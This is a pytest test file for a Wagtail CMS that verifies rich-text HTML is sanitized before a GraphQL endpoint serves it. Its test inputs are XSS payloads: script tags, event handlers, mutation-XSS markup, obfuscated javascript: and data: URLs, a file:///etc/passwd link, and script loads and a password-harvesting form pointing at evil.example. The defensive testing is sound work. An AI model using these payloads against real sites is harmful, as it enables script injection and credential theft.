"""Rich text that was written past the editor's form: what readers get runs, loads and styles nothing."""

from __future__ import annotations

import json
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from wagtail.test.utils.form_data import inline_formset, nested_form_data, streamfield

from articles.models import ArticlePage
from tests.client import GraphQLClient
from tests.drafts import token_of
from tests.factories.blocks import body_of, page_with_body, raw
from tests.factories.zones import ZoneMapPageFactory
from zones.models import ZoneMapPage

pytestmark = [pytest.mark.django_db, pytest.mark.one_database]

BODY = "query ($id: ID!) { page(id: $id) { ... on ArticlePage { body { rawValue ... on ParagraphBlock { html } } } } }"
TAGS = {"p", "b", "a", "i", "ul", "li", "br", "hr", "table", "tbody", "tr", "td"}


def html_of(graphql: GraphQLClient, text: str) -> str:
    """What the endpoint makes of a text that was written directly into the database."""
    page = page_with_body(raw("paragraph", text=text), title="Written raw")
    return graphql.data(BODY, id=page.pk)["page"]["body"][0]["html"]


@pytest.mark.parametrize(
    "text",
    [
        '<p data-block-key="a1b2c">Chung tay <b>vì người nghèo</b>, <i>không</i> ai<sup>1</sup> bị bỏ lại.<br>Hết.</p>',
        '<ul><li data-block-key="x">một</li><li data-block-key="y">hai &lt;3 &amp; ba</li></ul><hr>',
        '<p><a href="https://phutho.gov.vn/tin?a=1&amp;b=2#c">tin</a> <a href="mailto:ban@phutho.gov.vn">thư</a></p>',
        '<p><a href="tel:+842103846647">gọi</a> <a href="/tin-tuc/">tin</a> <a href="#muc-tieu">mục</a></p>',
        "",
    ],
)
def test_what_the_editor_stores_is_answered_as_it_is(graphql: GraphQLClient, text: str) -> None:
    assert html_of(graphql, text) == text


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("<p>a<script>alert(1)</script>b</p>", "<p>ab</p>"),
        ("<p>a<ScRiPt src=//evil.example/x.js></sCrIpT >b</p>", "<p>ab</p>"),
        ("<style>*{display:none}</style><p>a</p>", "<p>a</p>"),
        ('<iframe src="https://evil.example"></iframe><p>a</p>', "<p>a</p>"),
        ("<svg onload=alert(1)><p>x</p></svg><p>a</p>", "<p>x</p><p>a</p>"),
        ("<p>a<img src=x onerror=alert(1)></p>", "<p>a</p>"),
        ('<p onclick="alert(1)" style="position:fixed" class="x" id="y">a</p>', "<p>a</p>"),
        ("<p>a<!-- <script> --></p>", "<p>a</p>"),
        ('<form action="https://evil.example"><input name="password"></form><p>a</p>', "<p>a</p>"),
        ('<base href="https://evil.example/"><meta http-equiv="refresh" content="0"><p>a</p>', "<p>a</p>"),
        ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></table></math><p>a</p>", ""),
        ('<p><embed embedtype="media" url="https://evil.example/"/>a</p>', "<p>a</p>"),
        ('<p><embed src="https://evil.example/x.swf">a</p>', "<p>a</p>"),
        # What is closed before it is opened, or left open, takes in what a frontend puts behind the text.
        ('</a><p><a href="https://evil.example/">x</p>', '<p><a href="https://evil.example/">x</a></p>'),
        ("<table><tr><td>x", "<table><tbody><tr><td>x</td></tr></tbody></table>"),
        ('<p>a<a href="https://evil.example/">', '<p>a<a href="https://evil.example/"></a></p>'),
    ],
)
def test_what_runs_loads_or_styles_is_taken_out(graphql: GraphQLClient, text: str, answer: str) -> None:
    assert html_of(graphql, text) == answer


SCRIPTS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01\x1fjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&colon;alert(1)",
    "javascript&#58alert(1)",
    "javascript&Tab;:alert(1)",
    "\u00a0javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://x/y",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
]
TAGS_OF_LINKS = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<A HREF="{}">x</A>',
    '<a title="a" href="{}">x</a>',
    '<a/href="{}">x</a>',
    "<a linktype=\"x\" href='{}'>x</a>",
]


def leads_to(html: str) -> list[str]:
    """The addresses in an HTML, as a browser takes them: without blanks and control characters."""
    return [
        "".join(char for char in tag["href"] if char > " " and char != "\xa0").lower()
        for tag in BeautifulSoup(html, "html.parser").find_all(href=True)
    ]


@pytest.mark.parametrize("address", SCRIPTS)
def test_no_link_runs_a_script_however_it_is_written(graphql: GraphQLClient, address: str) -> None:
    answered = html_of(graphql, "".join(f"<p>{link.format(address)}</p>" for link in TAGS_OF_LINKS))

    found = BeautifulSoup(answered, "html.parser")
    assert [url for url in leads_to(answered) if ":" in url] == []
    assert {tag.name for tag in found.find_all()} <= TAGS
    assert {name for tag in found.find_all() for name in tag.attrs} <= {"href"}
    assert "script>" not in answered


def test_link_that_opens_a_tab_does_not_hand_over_the_page(graphql: GraphQLClient) -> None:
    text = '<p><a href="https://example.vn/" target="_blank">a</a> <a href="/x" target="evil">b</a></p>'
    assert html_of(graphql, text) == (
        '<p><a href="https://example.vn/" target="_blank" rel="noopener noreferrer">a</a>'
        ' <a href="/x" rel="noopener noreferrer">b</a></p>'
    )


def test_link_to_a_page_still_leads_there_among_what_is_taken_out(graphql: GraphQLClient) -> None:
    target = page_with_body(title="Target")
    text = f'<p onclick="x()"><a linktype="page" id="{target.pk}">there</a></p>'
    assert html_of(graphql, text) == '<p><a href="/tin-tuc/target/">there</a></p>'


def test_table_of_an_old_site_keeps_its_cells(graphql: GraphQLClient) -> None:
    text = '<table border="1"><tbody><tr><td width="9" onmouseover="x()">a</td></tr></tbody></table>'
    assert html_of(graphql, text) == "<table><tbody><tr><td>a</td></tr></tbody></table>"


def test_the_stored_form_of_a_text_is_harmless_too_and_keeps_its_references(graphql: GraphQLClient) -> None:
    text = '<p>a<script>x()</script> <a linktype="page" id="7" onclick="x()">b</a> <a id="config" href="javascript:x()">c</a>'
    text += f'<a linktype="page" id="{"9" * 4_400}">d</a></p>'
    page = page_with_body(raw("paragraph", text=text, removed="<script>"))
    [block] = graphql.data(BODY, id=page.pk)["page"]["body"]
    assert json.loads(block["rawValue"]) == {
        "text": '<p>a <a linktype="page" id="7">b</a> <a>c</a><a linktype="page">d</a></p>'
    }


def test_introduction_of_a_map_is_sanitized(graphql: GraphQLClient) -> None:
    page = ZoneMapPageFactory()
    ZoneMapPage.objects.filter(pk=page.pk).update(introduction="<p onclick=x()>a<script>b</script></p>")
    query = "query ($id: ID!) { page(id: $id) { ... on ZoneMapPage { introduction } } }"
    assert graphql.data(query, id=page.pk)["page"]["introduction"] == "<p>a</p>"


def contentstate(url: str) -> str:
    """What Wagtail's editor sends of a text with one link, from a browser that is not to be trusted."""
    block = {"key": "a1b2c", "text": "link", "type": "unstyled", "depth": 0, "inlineStyleRanges": []}
    block["entityRanges"] = [{"offset": 0, "length": 4, "key": 0}]
    entity = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": url, "onclick": "alert(1)"}}
    return json.dumps({"blocks": [block], "entityMap": {"0": entity}})


def submitted(client: Client, text: str) -> HttpResponse:
    """The answer to the form of an article whose text is what the editor's script would send."""
    page = page_with_body(title="Form")
    body = streamfield([("paragraph", {"text": text})])
    empty = inline_formset([])
    values = {"title": "Form", "slug": "form", "published_at": "01/01/2026 00:00", "body": body}
    values |= {"attachments": empty, "legal_document_links": empty, "action-publish": "1"}
    return client.post(reverse("wagtailadmin_pages:edit", args=(page.pk,)), nested_form_data(values))


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,x"]
)
def test_form_of_the_editor_does_not_store_a_script(admin_client: Client, url: str) -> None:
    assert submitted(admin_client, contentstate(url)).status_code == 302
    [block] = ArticlePage.objects.get(slug="form").body.raw_data
    assert block["value"]["text"] == '<p data-block-key="a1b2c"><a>link</a></p>'


def test_draft_of_an_old_revision_is_sanitized(graphql: GraphQLClient, admin_user: Any) -> None:
    page = page_with_body(raw("paragraph", text="<p>a</p>"))
    draft = ArticlePage.objects.get(pk=page.pk)
    draft.body = body_of(raw("paragraph", text="<p>a<script>b</script></p>"))

    query = """query ($token: String!) { page(token: $token, contentType: "articles.ArticlePage") {
        ... on ArticlePage { body { ... on ParagraphBlock { html } } } } }"""
    shown = graphql.data(query, token=token_of(draft, admin_user))

    assert shown["page"]["body"][0]["html"] == "<p>a</p>"


def nested(depth: int) -> str:
    block = {"key": "a", "text": "x", "type": "unordered-list-item", "depth": depth, "inlineStyleRanges": []}
    return json.dumps({"blocks": [{**block, "entityRanges": []}], "entityMap": {}})


@pytest.mark.parametrize(
    "text",
    [nested(10**9), nested(11), "[" * 100_000, '{"blocks": 1}', '"x"', "<p>html</p>"],
    ids=["deep", "eleven", "brackets", "number", "text", "html"],
)
def test_text_that_the_editor_cannot_have_sent_is_a_bad_request(admin_client: Client, text: str) -> None:
    assert submitted(admin_client, text).status_code == 400
    assert len(ArticlePage.objects.get(slug="form").body) == 0


def test_lists_within_lists_are_kept(admin_client: Client) -> None:
    assert submitted(admin_client, nested(1)).status_code == 302
    [block] = ArticlePage.objects.get(slug="form").body.raw_data
    assert block["value"]["text"] == '<ul><li><ul><li data-block-key="a">x</li></ul></li></ul>'
